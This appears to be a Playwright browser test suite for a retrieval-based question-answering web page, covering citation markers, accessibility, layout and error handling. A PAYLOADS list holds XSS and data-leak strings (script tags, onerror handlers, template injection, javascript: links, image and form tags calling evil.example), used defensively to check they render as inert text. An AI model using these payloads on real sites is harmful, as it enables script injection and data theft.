"""The page in a real browser: asking, checking a source, going back, and what hostile words cannot do."""

import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Self

import pytest
import uvicorn
from playwright.sync_api import Browser, BrowserContext, Dialog, Locator, Page, ViewportSize, expect, sync_playwright

from index.types import Article
from rag.types import Status
from tests.ui.fakes import FakeAnswerer, article
from tests.ui.test_rendering import HOSTILE, shown
from ui.server import create

CHROMIUM = Path("/usr/bin/chromium")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"no browser at {CHROMIUM}: apt-get install chromium"),
]
_SWITCHES = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
_SWITCHES += ["--disable-component-update", "--disable-sync"]

EXAMPLE = "When did the harbour bridge reopen?"
ARTICLES = (
    article(
        "bridge",
        "After two winters the harbour bridge reopened on 14 May. The repair of the harbour bridge cost 41 million.",
        title="Harbour bridge reopens",
        publisher="Coast Daily",
        published="2026-05-14",
        url="https://example.org/a1",
    ),
    article("ferry", "Night ferries stop on 1 July, the ferry operator said.", title="Ferries cut"),
)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=_SWITCHES)
        yield browser
        browser.close()


class Served:
    """An answerer, served for as long as a `with` block lasts."""

    def __init__(self, answerer: FakeAnswerer) -> None:
        self.answerer = answerer
        config = uvicorn.Config(create(answerer, examples=[EXAMPLE]), port=0, log_level="error", lifespan="on")
        self.server = uvicorn.Server(config)
        self.thread = threading.Thread(target=self.server.run)

    def __enter__(self) -> Self:
        self.thread.start()
        until(lambda: self.server.started)
        return self

    def __exit__(self, *_: object) -> None:
        self.server.should_exit = self.server.force_exit = True
        self.thread.join(10)

    @property
    def address(self) -> str:
        return f"http://127.0.0.1:{self.server.servers[0].sockets[0].getsockname()[1]}"


def until(holds: Callable[[], bool], seconds: float = 10) -> None:
    end = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < end, "it never came to hold"
        time.sleep(0.02)


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    with Served(FakeAnswerer(ARTICLES)) as served:
        yield served


class Reader:
    """Somebody at the page, and everything that the page asked for or complained of meanwhile."""

    def __init__(self, context: BrowserContext, address: str) -> None:
        self.requests: list[str] = []
        self.complaints: list[str] = []
        self.page: Page = context.new_page()
        context.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("dialog", self.dismiss)
        self.page.on(
            "console", lambda message: self.complaints.append(message.text) if message.type == "error" else None
        )
        self.page.goto(address)
        self.field = self.page.locator("#question textarea")
        self.chat = self.page.locator("#chat")
        self.panel = self.page.locator("#sources")

    def dismiss(self, dialog: Dialog) -> None:
        self.complaints.append(dialog.message)
        dialog.dismiss()

    def ask(self, question: str) -> None:
        self.field.fill(question)
        self.field.press("Enter")

    def answered(self, turn: int) -> None:
        """Wait until the answer of a turn, counted on the screen, is complete."""
        expect(self.chat.locator(".bot-row")).to_have_count(turn)
        expect(self.chat.locator(".bot-row").nth(turn - 1)).to_contain_text("kept")
        expect(self.page.locator("#question .submit-button")).to_be_visible()

    def marker(self, turn: int, number: int) -> Locator:
        return self.chat.locator(f"a[href='#cite-{turn}-{number}']")

    def abroad(self, address: str) -> list[str]:
        """What was asked of anybody else."""
        return [url for url in self.requests if not url.startswith((f"{address}/", "data:", "blob:"))]


@pytest.fixture
def reader(browser: Browser, served: Served) -> Iterator[Reader]:
    with browser.new_context(locale="en-US") as context:
        reader = Reader(context, served.address)
        yield reader
        assert reader.complaints == []
        assert reader.abroad(served.address) == []


def test_a_question_is_answered_with_markers_and_a_click_shows_the_marked_words(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    expect(reader.field).to_have_value("")
    reader.marker(1, 2).click()
    card = reader.panel.locator("li.active")
    expect(card).to_be_focused()
    expect(card.locator("mark")).to_be_in_viewport()
    expect(card.locator("mark")).to_have_text("The repair of the harbour bridge cost 41 million.")
    expect(card.locator("h3")).to_have_text("2Harbour bridge reopens")
    expect(card.locator(".meta")).to_have_text("Coast Daily · 14 May 2026")
    assert "#cite" not in reader.page.url


def test_the_page_gives_the_same_citations_as_the_answerer_and_the_api(reader: Reader, served: Served) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    answer = served.answerer.answer(EXAMPLE)
    asked = {"question": EXAMPLE}
    given = reader.page.request.post(f"{served.address}/api/answer", data=asked).json()
    assert given["citations"] == [citation.to_dict() for citation in answer.citations]
    assert reader.panel.locator("mark").all_inner_texts() == [citation.quote for citation in answer.citations]
    assert reader.panel.locator("h3 bdi").all_inner_texts() == [citation.title for citation in answer.citations]
    quoted = [statement.text for statement in answer.statements]
    assert reader.chat.locator(".bot-row p").all_inner_texts()[1:] == quoted


def test_a_marker_of_an_older_turn_brings_its_sources_back(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.ask("What did the ferry operator say of night ferries?")
    reader.answered(2)
    expect(reader.panel.locator("li h3")).to_have_text("1Ferries cut")
    reader.marker(1, 1).click()
    expect(reader.panel.locator("li.active mark")).to_have_text(
        "After two winters the harbour bridge reopened on 14 May."
    )
    expect(reader.panel.locator("li.active")).to_be_focused()
    expect(reader.panel.locator(".for")).to_have_text(f"for {EXAMPLE}")
    reader.marker(2, 1).click()
    expect(reader.panel.locator("li.active h3")).to_have_text("1Ferries cut")


def test_the_keyboard_goes_to_a_source_and_back_to_the_sentence(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.marker(1, 1).focus()
    reader.page.keyboard.press("Enter")
    expect(reader.panel.locator("li.active")).to_be_focused()
    reader.panel.locator("li.active .back").press("Enter")
    expect(reader.marker(1, 1)).to_be_focused()


def test_what_is_not_found_is_said_and_the_nearest_passages_are_shown_unmarked(reader: Reader, served: Served) -> None:
    reader.ask("Who won the chess match?")
    reader.answered(1)
    expect(reader.chat.locator(".bot-row")).to_contain_text(
        "Nothing in these articles answers “Who won the chess match?”."
    )
    expect(reader.chat.locator(".bot-row")).to_contain_text("Searched 2 articles.")
    expect(reader.panel.locator("h2")).to_have_text("Nearest passages")
    answer = served.answerer.answer("Who won the chess match?")
    assert answer.status is Status.NOT_FOUND
    assert reader.panel.locator("blockquote").all_inner_texts() == [hit.passage.text for hit in answer.hits]
    expect(reader.panel.locator("mark")).to_have_count(0)


def test_an_example_can_be_clicked_and_gives_way_to_the_answer(reader: Reader) -> None:
    reader.page.get_by_role("button", name=EXAMPLE).click()
    reader.answered(1)
    expect(reader.chat.locator(".user-row")).to_have_text(EXAMPLE)
    expect(reader.page.get_by_role("button", name=EXAMPLE)).to_be_hidden()


def test_earlier_turns_are_passed_on_as_plain_words(reader: Reader, served: Served) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.ask("What did the harbour bridge cost?")
    reader.answered(2)
    earlier = served.answerer.answer(EXAMPLE).text
    assert ("What did the harbour bridge cost?", ((EXAMPLE, earlier),)) in served.answerer.asked


def test_asking_again_and_taking_back_never_use_a_number_twice(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.chat.get_by_role("button", name="Retry").click()
    expect(reader.marker(2, 1)).to_be_visible()
    expect(reader.marker(1, 1)).to_have_count(0)
    reader.answered(1)
    reader.chat.get_by_role("button", name="Undo").first.click()
    expect(reader.field).to_have_value(EXAMPLE)
    expect(reader.chat.locator(".user-row")).to_have_count(0)
    reader.field.press("Enter")
    reader.answered(1)
    reader.marker(3, 2).click()
    expect(reader.panel.locator("li.active mark")).to_have_text("The repair of the harbour bridge cost 41 million.")


def test_clearing_begins_again(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.chat.get_by_role("button", name="Clear").click()
    expect(reader.chat.locator(".user-row")).to_have_count(0)
    expect(reader.panel.locator("li")).to_have_count(0)
    expect(reader.page.get_by_role("button", name=EXAMPLE)).to_be_visible()


def test_a_blank_question_asks_nothing_and_answers_nothing_again(reader: Reader, served: Served) -> None:
    before = served.answerer.opened
    reader.ask("   ")
    reader.page.wait_for_timeout(300)
    assert served.answerer.opened == before
    reader.ask(EXAMPLE)
    reader.answered(1)
    reader.ask("   ")
    reader.page.wait_for_timeout(500)
    assert served.answerer.opened == before + 1
    expect(reader.chat.locator(".user-row")).to_have_count(1)


def test_every_control_has_a_name_and_no_message_is_named_by_its_source(reader: Reader) -> None:
    reader.ask(EXAMPLE)
    reader.answered(1)
    for button in reader.page.get_by_role("button").all():
        assert button.evaluate("b => (b.getAttribute('aria-label') || b.innerText || b.title).trim()") != ""
    expect(reader.chat.locator("[aria-label*='&#']")).to_have_count(0)
    expect(reader.page.get_by_label("Question")).to_be_visible()


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_no_text_is_too_pale_to_read(browser: Browser, served: Served, theme: str) -> None:
    with browser.new_context(locale="en-US") as context:
        reader = Reader(context, f"{served.address}/?__theme={theme}")
        reader.ask(EXAMPLE)
        reader.answered(1)
        reader.marker(1, 1).click()
        pale = reader.page.evaluate(_CONTRAST)
    assert {words: ratio for words, ratio in pale if ratio < 4.5} == {}
    assert len(pale) > 12


# The contrast of every piece of text with the nearest ground behind it, by the formula of WCAG 2.
_CONTRAST = """() => {
  const light = (c) => {
    const [r, g, b] = c.map((v) => v / 255).map((v) => v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const parts = (c) => c.match(/[0-9.]+/g).map(Number);
  const found = [];
  const walker = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    const words = walker.currentNode.textContent.trim();
    if (!words || !element.checkVisibility() || element.closest('svg, style, script')) continue;
    let ground = element;
    while (ground && (parts(getComputedStyle(ground).backgroundColor)[3] ?? 1) === 0) ground = ground.parentElement;
    const back = ground ? parts(getComputedStyle(ground).backgroundColor) : [255, 255, 255];
    const [a, b] = [light(parts(getComputedStyle(element).color).slice(0, 3)), light(back.slice(0, 3))];
    found.push([words.slice(0, 40), (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]);
  }
  return found;
}"""


def test_a_phone_shows_everything_without_scrolling_sideways(browser: Browser, served: Served) -> None:
    with browser.new_context(locale="en-US", viewport={"width": 360, "height": 700}) as context:
        reader = Reader(context, served.address)
        reader.ask(f"{EXAMPLE} {'x' * 300}")
        reader.answered(1)
        assert reader.page.evaluate("document.documentElement.scrollWidth") == 360
        reader.marker(1, 1).click()
        expect(reader.panel.locator("li.active mark")).to_be_in_viewport()


def test_on_a_wide_screen_long_sources_scroll_and_the_question_stays_in_view(browser: Browser) -> None:
    long = article("long", "\n".join(f"The harbour bridge, part {part}. {'And on. ' * 90}" for part in range(5)))
    wide = ViewportSize(width=1280, height=700)
    with Served(FakeAnswerer([long])) as served, browser.new_context(locale="en-US", viewport=wide) as context:
        reader = Reader(context, served.address)
        reader.ask("harbour bridge")
        reader.answered(1)
        assert reader.page.evaluate("document.documentElement.scrollHeight") == 700
        reader.marker(1, 3).click()
        expect(reader.panel.locator("li.active mark")).to_be_in_viewport()
        expect(reader.field).to_be_in_viewport()


def test_an_answer_can_be_stopped_and_the_answerer_is_left_alone(browser: Browser) -> None:
    held = threading.Event()
    with Served(FakeAnswerer(ARTICLES, held=held)) as served, browser.new_context(locale="en-US") as context:
        reader = Reader(context, served.address)
        reader.ask(EXAMPLE)
        expect(reader.marker(1, 2)).to_be_visible()
        reader.page.get_by_role("button", name="Stop").click()
        expect(reader.chat.locator(".trouble")).to_have_text("Stopped.")
        held.set()
        until(lambda: served.answerer.closed == 1)
        expect(reader.page.get_by_role("button", name="Ask")).to_be_visible()
        reader.ask("What did the ferry operator say of night ferries?")
        # Whether turn 1 keeps its "Stopped." is not promised yet: what was on its way may arrive after the stop.
        expect(reader.marker(2, 1)).to_be_visible()


def test_while_an_answer_comes_nothing_else_can_be_asked(browser: Browser) -> None:
    held = threading.Event()
    with Served(FakeAnswerer(ARTICLES, held=held)) as served, browser.new_context(locale="en-US") as context:
        reader = Reader(context, served.address)
        reader.ask(EXAMPLE)
        expect(reader.marker(1, 1)).to_be_visible()
        reader.ask("What did the ferry operator say?")
        reader.page.wait_for_timeout(300)
        expect(reader.chat.locator(".user-row")).to_have_count(1)
        expect(reader.field).to_have_value("What did the ferry operator say?")
        held.set()
        reader.answered(1)
        assert served.answerer.opened == 1


def test_closing_the_page_ends_the_work(browser: Browser) -> None:
    with Served(FakeAnswerer(ARTICLES, pause=1)) as served, browser.new_context(locale="en-US") as context:
        reader = Reader(context, served.address)
        reader.ask(EXAMPLE)
        until(lambda: served.answerer.opened == 1)
        reader.page.close()
        until(lambda: served.answerer.closed == 1, seconds=2.5)


@pytest.mark.parametrize(
    ("error", "said"),
    [(KeyError("the secret of line 7"), "the question was not answered"), (OSError("secret"), "was not answered")],
)
@pytest.mark.filterwarnings("ignore::pytest.PytestUnhandledThreadExceptionWarning")
def test_what_nobody_foresaw_ends_in_words_and_the_next_question_works(
    browser: Browser, error: Exception, said: str
) -> None:
    with Served(FakeAnswerer(ARTICLES, error=error)) as served, browser.new_context(locale="en-US") as context:
        reader = Reader(context, served.address)
        reader.ask(EXAMPLE)
        expect(reader.chat.locator(".trouble")).to_contain_text(said)
        assert "secret" not in reader.page.content()
        served.answerer.error = None
        reader.ask(EXAMPLE)
        expect(reader.marker(2, 1)).to_be_visible()


PAYLOADS = (
    *HOSTILE,
    "<script>window.pwned=1</script><img src=x onerror=window.pwned=1><svg onload=window.pwned=1>",
    "${window.pwned=1} `+(window.pwned=1)+` \\x24{window.pwned=1} \\u003cimg src=x onerror=window.pwned=1\\u003e",
    "{{constructor.constructor('window.pwned=1')()}} {{{value}}} {{#with this}}{{/with}}",
    "![leak](https://evil.example/a.png) ![leak](/gradio_api/file=http://evil.example/a.png)",
    "[x]: https://evil.example/b.png\n![x] ![x][]",
    "<video poster=https://evil.example/c src=https://evil.example/d><table background=https://evil.example/e>",
    "<link rel=stylesheet href=https://evil.example/f><meta http-equiv=refresh content='0;https://evil.example'>",
    "<iframe src=https://evil.example/g></iframe><object data=https://evil.example/h></object>",
    "<form action=https://evil.example/i><input name=password><button>Sign in</button></form>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/j)'>Session expired</div>",
    "[click](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>click</a> [1](#cite-1-1)",
    "<style>body{display:none;background:url(https://evil.example/k)}</style>",
    "$$\\includegraphics{https://evil.example/l}$$ $\\href{javascript:window.pwned=1}{x}$",
)
_FOREIGN = "img, video, audio, iframe, object, embed, link, meta, form, input, table, script, code, [onerror], [onload]"


def hostile(payload: str) -> Article:
    """An article that holds the payload wherever words can stand."""
    text = f"The harbour bridge: {payload} and more. {payload} The harbour bridge again {payload}"
    return article("hostile", text, title=payload, publisher=payload, original_publisher=payload, genre=payload)


def wrongs(reader: Reader, turn: int, payload: str, address: str) -> list[str]:
    """What the payload, asked for in a turn, has brought about that words cannot."""
    foreign = reader.chat.locator(f".prose :is({_FOREIGN})").count() + reader.panel.locator(_FOREIGN).count()
    links = reader.page.eval_on_selector_all(".prose a, #sources a", "all => all.map(a => a.getAttribute('href'))")
    asked, answered = (reader.chat.locator(row).nth(turn - 1).inner_text() for row in (".user-row", ".bot-row"))
    words = shown(payload)
    return [
        *(["foreign elements"] if foreign else []),
        *(["forms"] if reader.page.locator("form").count() else []),
        *(["script ran"] if reader.page.evaluate("window.pwned") is not None else []),
        *[f"link {link}" for link in links if not re.fullmatch(r"#cite-\d+-\d", link)],
        *[f"complaint {complaint}" for complaint in reader.complaints],
        *[f"request {url}" for url in reader.requests if re.search("file=|proxy=", url)],
        *[f"request {url}" for url in reader.abroad(address)],
        *[f"lost words in {text!r}" for text in (asked, answered) if words not in shown(text)],
    ]


@pytest.mark.parametrize("with_policy", [True, False], ids=["policy", "no-policy"])
def test_hostile_words_stay_words(browser: Browser, *, with_policy: bool) -> None:
    found = {}
    with (
        Served(FakeAnswerer([])) as served,
        browser.new_context(locale="en-US", bypass_csp=not with_policy) as context,
    ):
        reader = Reader(context, served.address)
        for turn, payload in enumerate((words.replace("\ud800", "") for words in PAYLOADS), 1):
            served.answerer.articles, served.answerer.url = [hostile(payload)], payload
            reader.ask(f"harbour bridge {payload}".replace("\n", " "))
            reader.answered(turn)
            reader.marker(turn, 1).click()
            expect(reader.panel.locator("li.active mark")).to_be_visible()
            if seen := wrongs(reader, turn, payload, served.address):
                found[payload] = seen
    assert found == {}


@pytest.mark.parametrize("payload", PAYLOADS[-13:-9])
def test_hostile_words_stay_words_among_the_nearest_passages(reader: Reader, served: Served, payload: str) -> None:
    served.answerer.articles = [article("hostile", payload, title=payload, publisher=payload)]
    try:
        reader.ask("nothing of the kind")
        reader.answered(1)
    finally:
        served.answerer.articles = ARTICLES
    expect(reader.panel.locator("h2")).to_have_text("Nearest passages")
    assert wrongs(reader, 1, "", served.address) == []
    assert shown(payload) in shown(reader.panel.inner_text())


def test_the_page_is_ready_soon_and_the_first_marker_comes_at_once(browser: Browser, served: Served) -> None:
    with browser.new_context(locale="en-US") as context:
        start = time.monotonic()
        reader = Reader(context, served.address)
        expect(reader.field).to_be_visible()
        ready = time.monotonic() - start
        start = time.monotonic()
        reader.ask(EXAMPLE)
        expect(reader.marker(1, 1)).to_be_visible()
        first = time.monotonic() - start
    # Issue 9 asks for 3 s and 0.4 s on an idle machine; tests share theirs.
    assert ready < 6
    assert first < 2
